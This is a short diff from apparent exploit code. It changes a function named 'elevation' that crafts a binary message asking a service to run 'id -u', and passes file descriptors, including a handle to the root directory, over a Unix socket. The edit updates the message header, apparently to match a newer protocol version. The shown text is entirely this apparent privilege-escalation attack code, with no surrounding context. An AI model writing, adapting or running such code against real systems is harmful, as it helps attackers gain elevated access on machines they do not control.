@@ -25,7 +25,7 @@ def elevation(conn):
         return struct.pack(">I", len(s)) + s.encode()
 
     argv = ["id", "-u"]
-    body = bytes([2, 0, 0]) + struct.pack(">HH", 0, 0) + text("id") + text("")
+    body = bytes([3, 0, 0, 0]) + struct.pack(">HH", 0, 0) + text("id") + text("")
     body += struct.pack(">I", len(argv)) + b"".join(map(text, argv)) + struct.pack(">I", 0)
     files = array.array("i", [os.open("/", os.O_PATH), 0, 1, 2])
     conn.sendmsg([struct.pack(">BI", 1, len(body)) + body], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
